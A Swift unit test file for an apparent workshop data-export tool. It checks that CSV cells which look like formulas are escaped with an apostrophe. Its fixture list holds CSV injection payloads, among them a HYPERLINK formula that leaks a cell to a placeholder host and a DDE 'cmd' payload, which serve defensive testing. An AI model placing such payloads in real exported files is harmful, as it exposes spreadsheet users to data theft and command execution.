import DataJamCore
@testable import DataJamExport
import Foundation
import TestSupport
import XCTest

/// No CSV cell reaches a spreadsheet as a formula, whichever text field it comes from.
final class CSVFormulaTests: XCTestCase {
    /// Texts that LibreOffice and Excel would evaluate if a cell started with them.
    static let formulas = [
        "=HYPERLINK(\"http://exemple.invalid/?x=\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
        "\r=1+1", "  =cmd|' /C calc'!A0", "=1+1,\"virgule\"",
    ]

    func testEveryCellThatLooksLikeAFormulaStartsWithAnApostrophe() throws {
        var workshop = WorkshopFixtures.complete()
        for (i, formula) in Self.formulas.enumerated() {
            workshop.findings.append(Finding(id: "f-formula-\(i)", teamId: "t-transport", kind: .dataNeed, text: formula,
                                             author: formula,
                                             dataNeed: DataNeedDetails(producer: formula, availability: .missing, wantedFormat: formula),
                                             createdAt: WorkshopFixtures.time(100 + Int64(i))))
        }
        workshop.teams[0].name = Self.formulas[0]
        workshop.teams[1].scope = Self.formulas[1]
        workshop.participantGroups[0].organisations = [Self.formulas[3], "INS"]
        workshop.synthesis.partnerships[0].producer = Self.formulas[2]
        workshop.synthesis.recommendations[0].text = Self.formulas[6]
        workshop.details.objectives = [Self.formulas[4]]
        XCTAssertEqual(SemanticValidator.problems(in: workshop), [])

        let folder = TemporaryFolder("csv-formulas")
        var files = [folder.write(FindingsCSV.render([workshop], language: .fr), to: "findings.csv")]
        let package = folder.file("package")
        try DataPackageExport.write([workshop], to: package, language: .en)
        files += try FileManager.default.contentsOfDirectory(atPath: package).filter { $0.hasSuffix(".csv") }.map { "\(package)/\($0)" }
        XCTAssertGreaterThan(files.count, 3)

        var neutralised = 0
        for file in files {
            for row in try DataExportTools.pythonCSVRows(file) {
                for cell in row {
                    let first = cell.drop { $0 == " " }.unicodeScalars.first
                    XCTAssertFalse(first.map { "=+-@\t\r\n".unicodeScalars.contains($0) } ?? false, "\(file): \(cell.debugDescription)")
                    if cell.hasPrefix("'"), Self.formulas.contains(String(cell.dropFirst())) { neutralised += 1 }
                }
            }
        }
        XCTAssertGreaterThan(neutralised, 3 * Self.formulas.count, "each formula is kept, behind its apostrophe")
    }

    func testOrdinaryTextsAndNumbersAreUntouched() {
        for text in ["Manque de données", "2023-11-27", "42", "a=b", "Thnity : covoiturage", "", " ", "عبد الله"] {
            XCTAssertEqual(CSVTable.formulaSafe(text), text)
        }
        XCTAssertEqual(CSVTable.formulaSafe("- liste"), "'- liste")
    }
}
